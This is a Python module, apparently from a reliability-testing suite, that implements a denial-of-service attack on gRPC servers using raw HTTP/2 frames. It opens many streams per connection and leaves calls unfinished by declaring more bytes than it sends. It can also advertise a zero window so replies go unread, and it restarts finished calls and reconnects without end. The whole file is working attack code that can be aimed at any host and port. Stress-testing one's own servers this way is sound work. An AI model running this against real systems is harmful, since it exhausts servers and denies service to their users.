"""gRPC calls as raw HTTP/2 frames: complete, unfinished, many on a connection, unread."""

from __future__ import annotations

import asyncio
import struct
from contextlib import suppress

from reliability.attacks.grpc_payloads import (
    ACK,
    END_HEADERS,
    END_STREAM,
    FRAME_BYTES,
    PREFACE,
    Calls,
    Kind,
    frame,
    headers,
)


async def attack(host: str, port: int, calls: Calls) -> None:
    """Make the calls as flow control allows; connect again whenever the server closes."""
    while True:
        with suppress(OSError, asyncio.IncompleteReadError):
            reader, writer = await asyncio.open_connection(host, port)
            try:
                await _Connection(reader, writer, calls).run()
            finally:
                writer.transport.abort()
        await asyncio.sleep(0.05)


class _Connection:
    """One connection; finished calls are made again."""

    def __init__(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, calls: Calls
    ) -> None:
        self._reader, self._writer, self._calls = reader, writer, calls
        size = len(calls.message) if calls.declared_bytes is None else calls.declared_bytes
        self._data = (b"\x00" + struct.pack(">I", size) + calls.message) * calls.messages
        self._unfinished = size > len(calls.message) or calls.messages > 1
        self._next = 1
        self._left: dict[int, int] = {}
        """Bytes sent of each open call."""
        self._room: dict[int, int] = {}
        self._window, self._initial = 65_535, 65_535

    async def run(self) -> None:
        """Send, and take the server's frames."""
        settings = struct.pack(">HI", 4, self._calls.window)
        self._writer.write(PREFACE + frame(Kind.SETTINGS, 0, 0, settings))
        for _ in range(self._calls.streams):
            self._begin()
        while True:
            await self._send()
            head = await self._reader.readexactly(9)
            length = int.from_bytes(head[:3])
            stream = int.from_bytes(head[5:]) & 0x7FFF_FFFF
            self._take(head[3], head[4], stream, await self._reader.readexactly(length))

    def _begin(self) -> None:
        stream, self._next = self._next, self._next + 2
        self._left[stream], self._room[stream] = 0, self._initial
        self._writer.write(frame(Kind.HEADERS, END_HEADERS, stream, headers(self._calls.method)))

    async def _send(self) -> None:
        for stream, begun in list(self._left.items()):
            sent = begun
            while True:
                size = min(FRAME_BYTES, len(self._data) - sent, self._room[stream], self._window)
                if size <= 0:
                    break
                part = self._data[sent : sent + size]
                sent += size
                last = sent == len(self._data) and not self._unfinished
                self._writer.write(frame(Kind.DATA, END_STREAM * last, stream, part))
                self._room[stream] -= size
                self._window -= size
                await self._writer.drain()
            self._left[stream] = sent

    def _take(self, kind: int, flags: int, stream: int, body: bytes) -> None:
        if kind == Kind.SETTINGS and not flags & ACK:
            for name, value in struct.iter_unpack(">HI", body):
                if name == 4:
                    for one in self._room:
                        self._room[one] += value - self._initial
                    self._initial = value
            self._writer.write(frame(Kind.SETTINGS, ACK, 0))
        elif kind == Kind.PING and not flags & ACK:
            self._writer.write(frame(Kind.PING, ACK, 0, body))
        elif kind == Kind.WINDOW:
            more = int.from_bytes(body)
            if stream:
                self._room[stream] = self._room.get(stream, 0) + more
            else:
                self._window += more
        elif kind == Kind.GOAWAY:
            raise ConnectionResetError("the server closes")
        elif kind == Kind.DATA and self._calls.window:
            read = struct.pack(">I", max(1, len(body)))
            self._writer.write(frame(Kind.WINDOW, 0, 0, read))
        if kind == Kind.RESET or (kind in (Kind.HEADERS, Kind.DATA) and flags & END_STREAM):
            self._left.pop(stream, None)
            self._room.pop(stream, None)
            self._begin()
